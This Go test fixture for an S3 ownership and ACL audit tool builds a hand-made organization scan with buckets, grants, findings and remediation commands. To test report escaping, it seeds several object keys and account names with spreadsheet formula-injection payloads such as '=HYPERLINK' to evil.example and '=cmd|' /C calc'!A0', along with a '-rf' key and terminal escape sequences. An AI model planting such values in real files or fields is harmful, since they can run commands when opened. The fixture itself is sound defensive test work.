package report

import (
	"strings"
	"time"

	"github.com/ownerscan/ownerscan/scanner"
)

// Canonical IDs of the fixture: 64 hex characters, as S3 gives them.
var (
	canonA   = strings.Repeat("a1", 32)
	canonB   = strings.Repeat("b2", 32)
	canonC   = strings.Repeat("c3", 32)
	canonExt = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
	canonG   = strings.Repeat("e7", 32)
)

// longKey is a key of the S3 maximum length, 1,024 bytes.
var longKey = "long/" + strings.Repeat("k", 1019)

// fixtureTool is the tool named in the golden report.json.
var fixtureTool = Tool{Name: "ownerscan", Version: "v0.1.0-test"}

// fixtureResult is a realistic scan of a small organization, built by hand:
// every account status, every bucket status and object scan outcome, every
// finding type and severity, grants of each grantee kind, foreign owners that
// are a member account and an external one, and hostile names and keys. It
// is sorted the way the scanner sorts. StartedAt is in a non-UTC zone to
// prove that reports write UTC.
func fixtureResult() *scanner.Result {
	cest := time.FixedZone("CEST", 2*60*60)
	return &scanner.Result{
		StartedAt:  time.Date(2024, 5, 1, 12, 0, 0, 0, cest),
		FinishedAt: time.Date(2024, 5, 1, 10, 2, 3, 500_000_000, time.UTC),
		Complete:   false,
		Organization: scanner.Organization{
			ID:                  "o-a1b2c3d4e5",
			ManagementAccountID: "111111111111",
			Partition:           "aws",
		},
		Summary: scanner.Summary{
			Accounts: 7, AccountsScanned: 4, AccountsFailed: 1, AccountsSkipped: 2,
			Buckets: 7, BucketsCompliant: 2, BucketsNoncompliant: 3, BucketsFailed: 2,
			ObjectsScanned:      3477,
			CrossAccountObjects: 14,
			CrossAccountBytes:   3410,
			Findings:            map[string]int{"critical": 3, "high": 2, "medium": 5, "low": 2, "error": 3},
			Readiness:           map[string]int{"migrate": 2, "blocked": 1, "unknown": 2},
		},
		// No bucket of the fixture matches the exclude glob: every row is in scope.
		Scope: &scanner.Scope{BucketsExclude: []string{"scratch-*"}},
		Accounts: []scanner.Account{
			{ID: "111111111111", Name: "AccountA", OUPath: "Root", State: "ACTIVE", Status: scanner.AccountScanned, CanonicalID: canonA},
			{ID: "222222222222", Name: "AccountB", OUPath: "Root/Workloads", State: "ACTIVE", Status: scanner.AccountScanned, CanonicalID: canonB},
			{ID: "333333333333", Name: "AccountC", OUPath: "Root/Workloads/Dev", State: "ACTIVE", Status: scanner.AccountScanned, CanonicalID: canonC},
			{
				ID: "444444444444", Name: "AccountD", OUPath: "Root/Workloads", State: "ACTIVE", Status: scanner.AccountFailed,
				Error: "assume role arn:aws:iam::444444444444:role/OrganizationAccountAccessRole: operation error STS: AssumeRole, https response error StatusCode: 403, api error AccessDenied: User: arn:aws:iam::111111111111:user/auditor is not authorized to perform: sts:AssumeRole",
			},
			{ID: "555555555555", Name: `=HYPERLINK("http://evil.example/","click")`, OUPath: "Root", State: "SUSPENDED", Status: scanner.AccountSkipped, Error: "account state SUSPENDED"},
			{ID: "666666666666", Name: "ops\x1b[31m\nteam", OUPath: "Root", State: "PENDING_CLOSURE", Status: scanner.AccountSkipped, Error: "account state PENDING_CLOSURE"},
			{ID: "777777777777", Name: `-sandbox, "ops"`, OUPath: "Root/Sandbox", State: "ACTIVE", Status: scanner.AccountScanned, CanonicalID: canonG},
		},
		Buckets: []scanner.Bucket{
			{
				AccountID: "111111111111", AccountName: "AccountA", Name: "a-access-logs", Region: "us-east-1",
				ObjectOwnership: scanner.OwnershipNotSet, Status: scanner.BucketNoncompliant, OwnerCanonicalID: canonA,
				ACLGrants: []scanner.Grant{
					{Kind: scanner.GranteeLogDelivery, URI: "http://acs.amazonaws.com/groups/s3/LogDelivery", Permission: "WRITE"},
					{Kind: scanner.GranteeLogDelivery, URI: "http://acs.amazonaws.com/groups/s3/LogDelivery", Permission: "READ_ACP"},
				},
				ObjectsScanned: 420, ObjectScan: scanner.ObjectScanComplete,
				ForeignOwners: []scanner.ForeignOwner{},
				Readiness: &scanner.Readiness{
					Verdict: scanner.VerdictMigrate,
					Blockers: []scanner.Blocker{{Kind: scanner.BlockerLogDeliveryGrant, Verdict: scanner.VerdictMigrate,
						Detail: "The bucket ACL grants READ_ACP, WRITE to the S3 log delivery group: server access logs are delivered here through ACLs.",
						Fix:    "The migration policy lets logging.s3.amazonaws.com write objects for source buckets of account 111111111111; put it, then reset the bucket ACL to private."}},
					Changes:         []string{"The switch is reversible."},
					MigrationPolicy: `{"Version":"2012-10-17","Statement":[{"Sid":"MigratedLogDeliveryWrite","Effect":"Allow","Principal":{"Service":"logging.s3.amazonaws.com"},"Action":"s3:PutObject","Resource":"arn:aws:s3:::a-access-logs/*","Condition":{"StringEquals":{"aws:SourceAccount":"111111111111"}}}]}`,
					ObjectACLSample: scanner.ObjectACLSample{Size: 10, Read: 10},
				},
			},
			{
				AccountID: "111111111111", AccountName: "AccountA", Name: "a-terraform-state", Region: "us-east-1",
				ObjectOwnership: scanner.OwnershipEnforced, Status: scanner.BucketCompliant,
				ObjectScan: scanner.ObjectScanSkipped, // nil lists: written as []
			},
			{
				AccountID: "222222222222", AccountName: "AccountB", Name: "b-public-site", Region: "us-west-2",
				ObjectOwnership: scanner.OwnershipPreferred, Status: scanner.BucketNoncompliant, OwnerCanonicalID: canonB,
				ACLGrants: []scanner.Grant{
					{Kind: scanner.GranteeAllUsers, URI: "http://acs.amazonaws.com/groups/global/AllUsers", Permission: "READ"},
					{Kind: scanner.GranteeAuthenticatedUsers, URI: "http://acs.amazonaws.com/groups/global/AuthenticatedUsers", Permission: "READ"},
					{Kind: scanner.GranteeExternal, CanonicalID: canonExt, Permission: "WRITE"},
					{Kind: scanner.GranteeOtherGroup, URI: "http://acs.amazonaws.com/groups/s3/FutureGroup", Permission: "READ"},
				},
				ObjectsScanned: 1000, ObjectScan: scanner.ObjectScanTruncated, UnknownOwnerObjects: 3,
				ForeignOwners: []scanner.ForeignOwner{},
				Readiness: &scanner.Readiness{
					Verdict: scanner.VerdictBlocked,
					Blockers: []scanner.Blocker{
						{Kind: scanner.BlockerBucketACLGrant, Verdict: scanner.VerdictBlocked, Detail: "The bucket ACL grants READ to AllUsers.", Fix: "Decide whether the bucket should be public."},
						{Kind: scanner.BlockerPolicyRequiresACL, Verdict: scanner.VerdictBlocked, Detail: `statement "=cmd|' /C calc'!A0" allows s3:PutObject only when s3:x-amz-acl StringEquals [public-read]; a second clause`, Fix: "Change the statement."},
						{Kind: scanner.BlockerObjectACLGrants, Verdict: scanner.VerdictMigrate, Detail: "READ to AllUsers on 2 version(s), e.g. index.html, site.css", Fix: "Put the migration policy."},
					},
					Changes: []string{"3 object version(s) listed without an owner become the bucket owner's too.", "The switch is reversible."},
					ObjectACLSample: scanner.ObjectACLSample{Size: 10, Read: 9, Denied: 1, Grants: []scanner.ObjectGrant{
						{Grant: scanner.Grant{Kind: scanner.GranteeAllUsers, URI: "http://acs.amazonaws.com/groups/global/AllUsers", Permission: "READ"}, Versions: 2, SampleKeys: []string{"index.html", "site.css"}},
					}},
				},
			},
			{
				AccountID: "222222222222", AccountName: "AccountB", Name: "our-shared-widgets", Region: "us-east-1",
				ObjectOwnership: scanner.OwnershipObjectWriter, Status: scanner.BucketNoncompliant, OwnerCanonicalID: canonB,
				ACLGrants: []scanner.Grant{
					{Kind: scanner.GranteeMember, CanonicalID: canonC, AccountID: "333333333333", AccountName: "AccountC", Permission: "READ"},
				},
				ObjectsScanned: 57, ObjectScan: scanner.ObjectScanComplete,
				CrossAccountObjects: 14, CrossAccountBytes: 3410,
				ForeignOwners: []scanner.ForeignOwner{
					{
						CanonicalID: canonExt, External: true, Objects: 2, Bytes: 10,
						SampleKeys: []string{"bad-\xff\xfe-utf8/\xc3", "incoming/from-partner.csv"},
					},
					{
						CanonicalID: canonC, AccountID: "333333333333", AccountName: "AccountC", Objects: 12, Bytes: 3400,
						SampleKeys: []string{"\tleading-tab", "\rleading-cr", "'quoted-already", "+1-555-0100.txt", "-rf"},
					},
				},
				Readiness: &scanner.Readiness{
					Verdict: scanner.VerdictMigrate,
					Blockers: []scanner.Blocker{{Kind: scanner.BlockerBucketACLGrant, Verdict: scanner.VerdictMigrate,
						Detail: "The bucket ACL grants READ to member account 333333333333 (AccountC).", Fix: "Put the migration policy, then reset the bucket ACL to private."}},
					Changes:         []string{"14 object version(s) owned by 2 other account(s) become the bucket owner's.", "The switch is reversible."},
					MigrationPolicy: `{"Version":"2012-10-17","Statement":[{"Sid":"MigratedBucketAclReadAccount333333333333","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::333333333333:root"},"Action":["s3:ListBucket","s3:ListBucketVersions","s3:ListBucketMultipartUploads"],"Resource":"arn:aws:s3:::our-shared-widgets"}]}`,
					ObjectACLSample: scanner.ObjectACLSample{Size: 10, Skipped: "readiness.object_acl_sample is 0"},
				},
			},
			{
				AccountID: "333333333333", AccountName: "AccountC", Name: "c-archive", Region: "eu-west-1",
				ObjectOwnership: scanner.OwnershipObjectWriter, Status: scanner.BucketFailed, OwnerCanonicalID: canonC,
				ACLGrants:      []scanner.Grant{},
				ObjectsScanned: 2000, ObjectScan: scanner.ObjectScanFailed,
				ForeignOwners: []scanner.ForeignOwner{},
				Error:         "ListObjectVersions: operation error S3: ListObjectVersions, exceeded maximum number of attempts, 10, https response error StatusCode: 503, api error SlowDown: Please reduce your request rate.",
				Readiness: &scanner.Readiness{
					Verdict: scanner.VerdictUnknown,
					Blockers: []scanner.Blocker{{Kind: scanner.BlockerReadFailed, Verdict: scanner.VerdictUnknown,
						Detail: "The bucket could not be fully scanned: ListObjectVersions: api error SlowDown.", Fix: "Fix what failed and scan again."}},
					ObjectACLSample: scanner.ObjectACLSample{Size: 10, Skipped: "the bucket's checks stopped before its objects were sampled"},
				},
			},
			{
				AccountID: "333333333333", AccountName: "AccountC", Name: "c-data-eu", Region: "eu-central-1",
				ObjectOwnership: scanner.OwnershipUnknown, Status: scanner.BucketFailed,
				ObjectScan: scanner.ObjectScanSkipped,
				Error:      "GetBucketOwnershipControls: operation error S3: GetBucketOwnershipControls, https response error StatusCode: 403, api error AccessDenied: Access Denied",
				Readiness: &scanner.Readiness{
					Verdict: scanner.VerdictUnknown,
					Blockers: []scanner.Blocker{{Kind: scanner.BlockerReadFailed, Verdict: scanner.VerdictUnknown,
						Detail: "The bucket could not be fully scanned: GetBucketOwnershipControls: AccessDenied.", Fix: "Fix what failed and scan again."}},
				},
			},
			{
				AccountID: "777777777777", AccountName: `-sandbox, "ops"`, Name: "sandbox-artifacts", Region: "ap-southeast-2",
				ObjectOwnership: scanner.OwnershipEnforced, Status: scanner.BucketCompliant,
				ObjectScan: scanner.ObjectScanSkipped,
			},
		},
		Findings: fixtureFindings(),
	}
}

const (
	enforceRemediation = "aws s3api put-bucket-ownership-controls --bucket %s --ownership-controls 'Rules=[{ObjectOwnership=BucketOwnerEnforced}]'\nCloudFormation: OwnershipControls.Rules[0].ObjectOwnership: BucketOwnerEnforced; CDK: objectOwnership: s3.ObjectOwnership.BUCKET_OWNER_ENFORCED; Terraform: aws_s3_bucket_ownership_controls rule.object_ownership = \"BucketOwnerEnforced\""
	grantRemediation   = "Grant the same access in the bucket policy, then remove the grant from the bucket ACL before enforcing bucket ownership."
	logRemediation     = "- Grant logging.s3.amazonaws.com s3:PutObject in the bucket policy.\n- Then remove the LogDelivery grants: aws s3api put-bucket-acl --bucket a-access-logs --acl private"
)

// fixtureGrantSubjects are the subjects of the fixture's BUCKET_ACL_GRANT
// findings, by title, in the form the scanner uses.
var fixtureGrantSubjects = map[string]string{
	"Bucket ACL grants READ to AllUsers":                                             "grantee=http://acs.amazonaws.com/groups/global/AllUsers permission=READ",
	"Bucket ACL grants READ to AuthenticatedUsers":                                   "grantee=http://acs.amazonaws.com/groups/global/AuthenticatedUsers permission=READ",
	"Bucket ACL grants READ to group http://acs.amazonaws.com/groups/s3/FutureGroup": "grantee=http://acs.amazonaws.com/groups/s3/FutureGroup permission=READ",
	"Bucket ACL grants WRITE to external account " + canonExt[:12] + "...":           "grantee=" + canonExt + " permission=WRITE",
	"Bucket ACL grants READ to member account 333333333333 (AccountC)":               "grantee=" + canonC + " permission=READ",
	"Bucket ACL grants READ_ACP to LogDelivery":                                      "grantee=http://acs.amazonaws.com/groups/s3/LogDelivery permission=READ_ACP",
	"Bucket ACL grants WRITE to LogDelivery":                                         "grantee=http://acs.amazonaws.com/groups/s3/LogDelivery permission=WRITE",
}

// fixtureFindings are the findings of fixtureResult, each with the ID the
// scanner would give it.
func fixtureFindings() []scanner.Finding {
	list := fixtureFindingList()
	for i := range list {
		f := &list[i]
		f.ID = scanner.FindingID(f.Type, f.AccountID, f.Bucket, f.Region, fixtureGrantSubjects[f.Title])
	}
	return list
}

func fixtureFindingList() []scanner.Finding {
	enforce := func(bucket string) string { return strings.Replace(enforceRemediation, "%s", bucket, 1) }
	return []scanner.Finding{
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityCritical, AccountID: "222222222222", Bucket: "b-public-site", Region: "us-west-2",
			Title: "Bucket ACL grants READ to AllUsers", Detail: "Anyone on the internet can list the bucket.", Remediation: grantRemediation},
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityCritical, AccountID: "222222222222", Bucket: "b-public-site", Region: "us-west-2",
			Title: "Bucket ACL grants READ to AuthenticatedUsers", Detail: "Any AWS account can list the bucket.", Remediation: grantRemediation},
		{Type: scanner.FindingCrossAccountObjects, Severity: scanner.SeverityCritical, AccountID: "222222222222", Bucket: "our-shared-widgets", Region: "us-east-1",
			Title:       "14 object versions owned by other accounts (2 external)",
			Detail:      "333333333333 (AccountC): 12 versions, 3400 bytes; external " + canonExt + ": 2 versions, 10 bytes. Sample keys: =HYPERLINK(\"http://evil.example/\"), -rf",
			Remediation: enforce("our-shared-widgets")},
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityHigh, AccountID: "222222222222", Bucket: "b-public-site", Region: "us-west-2",
			Title: "Bucket ACL grants READ to group http://acs.amazonaws.com/groups/s3/FutureGroup", Detail: "An unrecognised group URI.", Remediation: grantRemediation},
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityHigh, AccountID: "222222222222", Bucket: "b-public-site", Region: "us-west-2",
			Title: "Bucket ACL grants WRITE to external account " + canonExt[:12] + "...", Detail: "Canonical ID " + canonExt + " is not a member of the organization.", Remediation: grantRemediation},
		{Type: scanner.FindingACLsEnabled, Severity: scanner.SeverityMedium, AccountID: "111111111111", Bucket: "a-access-logs", Region: "us-east-1",
			Title: "ACLs enabled (Object Ownership NotSet)", Detail: "No ownership controls: behaves as ObjectWriter.", Remediation: enforce("a-access-logs")},
		{Type: scanner.FindingACLsEnabled, Severity: scanner.SeverityMedium, AccountID: "222222222222", Bucket: "b-public-site", Region: "us-west-2",
			Title: "ACLs enabled (Object Ownership BucketOwnerPreferred)", Detail: "Objects uploaded without bucket-owner-full-control stay with the writer.", Remediation: enforce("b-public-site")},
		{Type: scanner.FindingACLsEnabled, Severity: scanner.SeverityMedium, AccountID: "222222222222", Bucket: "our-shared-widgets", Region: "us-east-1",
			Title: "ACLs enabled (Object Ownership ObjectWriter)", Detail: "The writing account owns each object.", Remediation: enforce("our-shared-widgets")},
		{Type: scanner.FindingACLsEnabled, Severity: scanner.SeverityMedium, AccountID: "333333333333", Bucket: "c-archive", Region: "eu-west-1",
			Title: "ACLs enabled (Object Ownership ObjectWriter)", Detail: "The writing account owns each object.", Remediation: enforce("c-archive")},
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityMedium, AccountID: "222222222222", Bucket: "our-shared-widgets", Region: "us-east-1",
			Title: "Bucket ACL grants READ to member account 333333333333 (AccountC)", Detail: "A member account lists the bucket through its ACL.", Remediation: grantRemediation},
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityLow, AccountID: "111111111111", Bucket: "a-access-logs", Region: "us-east-1",
			Title: "Bucket ACL grants READ_ACP to LogDelivery", Detail: "Server access logging through the ACL.", Remediation: logRemediation},
		{Type: scanner.FindingBucketACLGrant, Severity: scanner.SeverityLow, AccountID: "111111111111", Bucket: "a-access-logs", Region: "us-east-1",
			Title: "Bucket ACL grants WRITE to LogDelivery", Detail: "Server access logging through the ACL.", Remediation: logRemediation},
		{Type: scanner.FindingScanError, Severity: scanner.SeverityError, AccountID: "333333333333", Bucket: "c-archive", Region: "eu-west-1",
			Title: "Object listing failed", Detail: "ListObjectVersions: api error SlowDown: Please reduce your request rate.", Remediation: "Rerun the scan; lower concurrency if throttling persists."},
		{Type: scanner.FindingScanError, Severity: scanner.SeverityError, AccountID: "333333333333", Bucket: "c-data-eu", Region: "eu-central-1",
			Title: "Bucket could not be checked", Detail: "GetBucketOwnershipControls: api error AccessDenied: Access Denied", Remediation: "Allow s3:GetBucketOwnershipControls to the audit role in the bucket policy."},
		{Type: scanner.FindingScanError, Severity: scanner.SeverityError, AccountID: "444444444444",
			Title: "Account could not be scanned", Detail: "AssumeRole: api error AccessDenied", Remediation: "Deploy the member audit role (deploy/) to account 444444444444 and trust the management account."},
	}
}

// fixtureObjects are the cross-account object versions of our-shared-widgets:
// twelve owned by AccountC (3,400 bytes) and two by an external account (10
// bytes), with the hostile keys the CSV must survive.
func fixtureObjects() []scanner.ObjectRecord {
	base := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	c := func(i int, key, version string, size int64) scanner.ObjectRecord {
		return scanner.ObjectRecord{
			AccountID: "222222222222", Bucket: "our-shared-widgets", Key: key, VersionID: version, IsLatest: true,
			OwnerCanonicalID: canonC, OwnerAccountID: "333333333333", OwnerAccountName: "AccountC",
			Size: size, LastModified: base.Add(time.Duration(i) * time.Second),
		}
	}
	ext := func(i int, key string, size int64) scanner.ObjectRecord {
		return scanner.ObjectRecord{
			AccountID: "222222222222", Bucket: "our-shared-widgets", Key: key, VersionID: "null", IsLatest: true,
			OwnerCanonicalID: canonExt, Size: size,
			// A time in another zone: objects.csv writes UTC.
			LastModified: base.Add(time.Duration(i) * time.Second).In(time.FixedZone("PST", -8*60*60)),
		}
	}
	old := c(1, "widgets/2024/q1-report.pdf", "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY", 2048)
	old.IsLatest = false
	marker := c(12, "widgets/deleted.txt", "Ri.vC6qVlA4dEnjgRV4ZHsHoFIjqEMNt", 0)
	marker.IsDeleteMarker = true
	return []scanner.ObjectRecord{
		old,
		c(2, `=HYPERLINK("http://evil.example/?"&A1,"open")`, "v2", 100),
		c(3, "+1-555-0100.txt", "v3", 100),
		c(4, "-rf", "v4", 100),
		c(5, "@SUM(1+1)*cmd|' /C calc'!A0", "v5", 100),
		c(6, "\tleading-tab", "v6", 100),
		c(7, "\rleading-cr", "v7", 100),
		c(8, "'quoted-already", "v8", 100),
		c(9, "line1\nline2,with \"quotes\"\r\nline3", "v9", 100),
		c(10, "ctl\x00\x01\x1b[31mred\x7f", "v10", 352),
		c(11, longKey, "v11", 200),
		marker,
		ext(13, "bad-\xff\xfe-utf8/\xc3", 4),
		ext(14, "incoming/from-partner.csv", 6),
	}
}

// newDocument is NewDocument without a comparison.
func newDocument(res *scanner.Result, tool Tool) *Document { return NewDocument(res, tool, nil) }
